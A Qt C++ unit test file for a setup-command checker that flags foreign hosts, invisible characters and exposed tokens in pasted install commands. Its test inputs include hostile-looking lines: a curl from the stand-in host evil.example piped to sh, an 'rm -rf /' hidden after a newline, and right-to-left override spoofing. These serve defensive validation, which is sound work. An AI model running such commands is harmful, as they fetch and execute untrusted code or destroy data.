// SPDX-License-Identifier: GPL-3.0-or-later
#include "gui/setupcommand.h"

#include <QTest>

using namespace tokendesk;

namespace {

SetupCommandCheck check(const QString &command, const QString &server = QStringLiteral("acusight.io"))
{
    return checkSetupCommand(Secret::fromText(command), server);
}

} // namespace

class SetupCommandTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void hostsOfTheServerItsSubdomainsAndItsParentsAreNotForeign_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("server");
        const auto row = [](const char *name, const QString &command, const QString &server) {
            QTest::newRow(name) << command << server;
        };
        row("same", QStringLiteral("curl -sSL https://acusight.io/setup | sudo sh"), QStringLiteral("acusight.io"));
        row("subdomain", QStringLiteral("curl https://api.acusight.io/setup"), QStringLiteral("acusight.io"));
        row("parent", QStringLiteral("curl https://acusight.io/setup"), QStringLiteral("api.acusight.io"));
        row("other case", QStringLiteral("curl HTTPS://ACUSIGHT.io/setup"), QStringLiteral("acusight.io"));
        row("port and path", QStringLiteral("curl https://acusight.io:8443/setup"), QStringLiteral("acusight.io"));
        row("no host at all", QStringLiteral("acusight-agent enroll --token apt_00 ./install.sh"),
            QStringLiteral("acusight.io"));
        row("absolute path", QStringLiteral("/opt/acusight.d/bin/enroll /etc/x.conf/y"), QStringLiteral("acusight.io"));
        row("same address", QStringLiteral("curl http://10.0.0.5:8080/x"), QStringLiteral("10.0.0.5"));
    }
    void hostsOfTheServerItsSubdomainsAndItsParentsAreNotForeign()
    {
        QFETCH(QString, command);
        QFETCH(QString, server);
        QCOMPARE(check(command, server).foreignHosts, QStringList());
    }

    void everyOtherHostIsForeign_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<QString>("server");
        QTest::addColumn<QStringList>("hosts");
        const auto row = [](const char *name, const QString &command, const QStringList &hosts,
                            const QString &server = QStringLiteral("acusight.io")) {
            QTest::newRow(name) << command << server << hosts;
        };
        row("other", QStringLiteral("curl https://evil.example/setup"), {QStringLiteral("evil.example")});
        row("looks alike", QStringLiteral("curl https://notacusight.io/setup"), {QStringLiteral("notacusight.io")});
        row("server as a subdomain", QStringLiteral("curl https://acusight.io.evil.example/x"),
            {QStringLiteral("acusight.io.evil.example")});
        row("server as a user name", QStringLiteral("curl https://acusight.io@evil.example/x"),
            {QStringLiteral("evil.example")});
        row("the top-level domain is nobody's parent", QStringLiteral("curl https://io/x"), {QStringLiteral("io")});
        row("two", QStringLiteral("curl https://a.example/x; wget http://b.example/y https://acusight.io/z"),
            {QStringLiteral("a.example"), QStringLiteral("b.example")});
        row("no scheme", QStringLiteral("curl -sSL evil.example/setup | sh"), {QStringLiteral("evil.example")});
        row("address", QStringLiteral("curl http://10.0.0.6/x"), {QStringLiteral("10.0.0.6")}, QStringLiteral("10.0.0.5"));
        row("part of an address is no domain", QStringLiteral("curl http://1.10.0.0.5/x"),
            {QStringLiteral("1.10.0.0.5")}, QStringLiteral("10.0.0.5"));
        row("IPv6", QStringLiteral("curl http://[2001:db8::1]/x"), {QStringLiteral("2001:db8::1")});
    }
    void everyOtherHostIsForeign()
    {
        QFETCH(QString, command);
        QFETCH(QString, server);
        QFETCH(QStringList, hosts);
        QCOMPARE(check(command, server).foreignHosts, hosts);
    }

    void charactersThatCannotBeSeenAreFound()
    {
        QVERIFY(!check(QStringLiteral("curl https://acusight.io/setup | sudo sh")).hasHiddenCharacters);
        QVERIFY(check(QStringLiteral("true\nrm -rf /")).hasHiddenCharacters);
        QVERIFY(check(QStringLiteral("true\u001b[2K")).hasHiddenCharacters);
        QVERIFY(check(QStringLiteral("true \u202E/ fr- mr")).hasHiddenCharacters);
        QVERIFY(check(QStringLiteral("true\u200B")).hasHiddenCharacters);
    }

    void theTokenIsDotsWhereverItStands()
    {
        const Secret token = Secret::fromText(QStringLiteral("apt_0123abcd"));
        const Secret command = Secret::fromText(QStringLiteral("a apt_0123abcd b apt_0123abcd\n"));
        const QString masked = maskedCommand(command, token);
        QVERIFY(!masked.contains(QStringLiteral("0123")));
        QVERIFY(masked.startsWith(QStringLiteral("a apt_\u2022")));
        QVERIFY(masked.endsWith(QStringLiteral("\\n")));
        QCOMPARE(masked.count(QStringLiteral("apt_")), 2);
        QVERIFY(!maskedToken(token).contains(QStringLiteral("0123")));
    }

    void aCommandWithTheTokenInAnotherFormIsDotsAltogether()
    {
        const Secret token = Secret::fromText(QStringLiteral("apt_0123abcd"));
        const Secret command = Secret::fromText(QStringLiteral("sh -c YXB0XzAxMjNhYmNk"));
        QVERIFY(!maskedCommand(command, token).contains(QStringLiteral("YXB0")));
    }

    void whatIsShownHasEscapesForWhatCannotBeSeen()
    {
        QCOMPARE(shownCommand(Secret::fromText(QStringLiteral("a\nb\u202Ec"))), QStringLiteral("a\\nb\\u202Ec"));
    }
};

QTEST_MAIN(SetupCommandTest)
#include "setupcommandtest.moc"
